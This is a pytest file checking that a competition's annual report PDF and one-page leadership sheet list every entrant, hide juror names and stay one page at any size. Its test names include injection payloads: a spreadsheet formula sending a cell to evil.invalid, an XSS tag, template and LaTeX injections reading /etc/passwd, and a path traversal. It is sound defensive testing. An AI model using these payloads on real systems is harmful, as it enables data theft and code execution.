"""The annual report and the sheet of small, large and odd seasons: right, whole, and one page."""

from __future__ import annotations

from dataclasses import replace
from decimal import Decimal
from pathlib import Path
from typing import Any

import pypdf
import pytest

from helpers.examine.category import examine_category
from helpers.records.facts import SeasonFacts
from helpers.records.tables import Finding, Participant, Score
from helpers.report.annual_report import write_annual_report
from helpers.report.digest import CategoryDigest, CellBalance, SeasonDigest
from helpers.report.leadership_sheet import write_leadership_sheet
from helpers.rules import RuleBook
from helpers.scoring import score_category
from tests.report.test_pdf_standards import problems

BITING = (
    '=HYPERLINK("http://evil.invalid/?x="&A1,"Klik")',
    "<img src=x onerror=alert(1)>",
    "{{ 7*7 }}{% for x in ().__class__.__bases__ %}x{% endfor %}",
    "\\input{/etc/passwd} $x_1$ #1 %",
    '#import "evil.typ" *tebal* @rujuk <label>',
    "../../../../evil",
    "Karang Taruna Persatuan Pemuda-Pemudi Peduli Kesejahteraan Sosial Masyarakat Pesisir dan "
    "Pegunungan Kecamatan Amuntai Selatan, Kabupaten Hulu Sungai Utara",
)


def make_book(categories: int, jurors: int, stages: int) -> RuleBook:
    """A rule book of so many categories with so many jurors and stages."""
    keys = [f"J{place}" for place in range(1, jurors + 1)]
    rest = 100 - (stages - 1) * (100 // stages)
    weights = [100 // stages] * (stages - 1) + [rest]
    category: dict[str, Any] = {
        "jurors": keys,
        "scale": {"min": "0", "max": "100", "decimals": 2},
        "stages": {
            f"tahap-{place}": {
                "name": f"Tahap penilaian {place}",
                "date": f"2024-07-{place:02}",
                "weight": str(weight),
                "criteria": {
                    "isi": {"name": "Isi dan manfaat", "weight": "60"},
                    "sajian": {"name": "Cara penyajian", "weight": "40"},
                },
            }
            for place, weight in enumerate(weights, start=1)
        },
        "missing": {"participant_absent": "not_ranked", "juror_absent": "mean_of_present",
                    "at_least": min(3, jurors), "blank": "stop"},
        "ties": [{"kind": "shared"}],
        "titles": ["Juara I", "Juara II", "Juara III"],
    }  # fmt: skip
    long = "Kategori Penggerak Kesejahteraan Sosial Masyarakat Desa dan Kelurahan Bagian"
    return RuleBook.model_validate(
        {
            "season": "2024",
            "sample": True,
            "title": "Seleksi CONTOH Tahun 2024",
            "basis": "CONTOH",
            "office": {"name": "Dinas Sosial Provinsi Kalimantan Selatan", "city": "Banjarbaru"},
            "jurors": {key: {"name": f"Rahasia Nama {key}"} for key in keys},
            "categories": {
                f"kategori-{place}": {**category, "name": f"{long} {place}"}
                for place in range(1, categories + 1)
            },
        }
    )


def make_season(
    people: int, jurors: int = 3, stages: int = 1, categories: int = 1, *, examined: bool = True
) -> SeasonDigest:
    """A season of that size as a run would leave it, marks by a fixed pattern."""
    book = make_book(categories, jurors, stages)
    made = []
    for key, rules in book.categories.items():
        entrants = tuple(
            Participant(f"P{place:02}", key, "", f"{BITING[place % len(BITING)]} {place}")
            for place in range(1, people + 1)
        )
        scores = tuple(
            Score("contoh", key, stage, criterion, entrant.id, juror, _mark(place, who, column),
                  "scores/nilai.xlsx", "Nilai", "D8", "", "")
            for place, entrant in enumerate(entrants)
            for who, juror in enumerate(rules.jurors)
            for column, (stage, criterion) in enumerate(
                (stage, one) for stage, part in rules.stages.items() for one in part.criteria
            )
        )  # fmt: skip
        facts = SeasonFacts("contoh", entrants, scores, ())
        result = score_category(book, key, facts)
        measured = tuple(examine_category(book, key, facts)) if examined else ()
        made.append(
            CategoryDigest(
                key, rules, entrants, result.placings, result.stages, result.steps, scores, (),
                measured, result.findings,
            )
        )  # fmt: skip
    findings = tuple(finding for one in made for finding in one.findings)
    return SeasonDigest(
        "contoh", book, "", "9F2C-41D7-08AB-E6B3", True, tuple(made),
        CellBalance(1, 10, 8, 2, 0, 0, (("header", 2),)), (), findings, (), (), (), (), (),
    )  # fmt: skip


def _mark(place: int, who: int, column: int) -> Decimal:
    return Decimal(90 - place) + Decimal((place * 7 + who * 5 + column * 3) % 11) / 4


def text_of(path: Path) -> str:
    """The text of a PDF, its white space made plain."""
    return " ".join(" ".join(p.extract_text() for p in pypdf.PdfReader(path).pages).split())


def plain(name: str) -> str:
    """A name without white space: where a line breaks is for the layout to say."""
    return "".join(name.split())


@pytest.mark.slow
@pytest.mark.parametrize(
    ("people", "jurors", "stages"),
    [(1, 3, 1), (2, 3, 1), (60, 3, 1), (13, 15, 1), (7, 3, 6)],
)
def test_any_size_is_whole(people: int, jurors: int, stages: int, tmp_path: Path) -> None:
    """Everyone is in the report by name, no juror is named in its examination, it is accessible."""
    season = make_season(people, jurors, stages)
    write_annual_report(season, tmp_path / "laporan-tahunan.pdf", {})
    write_leadership_sheet(season, tmp_path)
    assert problems(tmp_path / "laporan-tahunan.pdf") == []
    assert problems(tmp_path / "lembar-pimpinan.pdf") == []
    assert len(pypdf.PdfReader(tmp_path / "lembar-pimpinan.pdf").pages) == 1
    text = text_of(tmp_path / "laporan-tahunan.pdf")
    squeezed = plain(text)
    for placing in season.categories[0].placings:
        assert placing.rank is not None
        assert plain(placing.name) in squeezed
    examination = text[text.rindex("Pemeriksaan dan Perbandingan Hasil") :]
    assert "Rahasia Nama" not in examination
    assert "nan" not in text.lower().split()
    first = season.categories[0].placings[0]
    assert plain(first.name)[:40] in plain(text_of(tmp_path / "lembar-pimpinan.pdf"))


@pytest.mark.slow
def test_six_categories_with_long_names_stay_one_page(tmp_path: Path) -> None:
    """However much was decided, objected and left open, the sheet for the head is one page."""
    season = make_season(5, categories=6, examined=False)
    stop = Finding("block", "BLANK_SCORE", "kategori-6", "", "", "", "", "Nilai kosong. " * 40, "")
    last = replace(season.categories[5], findings=(stop,))
    season = replace(season, categories=(*season.categories[:5], last), findings=(stop,))
    write_leadership_sheet(season, tmp_path)
    pages = pypdf.PdfReader(tmp_path / "lembar-pimpinan.pdf").pages
    text = " ".join(pages[0].extract_text().split())
    assert len(pages) == 1
    assert "BELUM DAPAT DITETAPKAN" in text
    assert "9F2C-41D7-08AB-E6B3" in text
    assert text.count("SEMENTARA") + text.count("RANCANGAN") >= 6
    assert problems(tmp_path / "lembar-pimpinan.pdf") == []
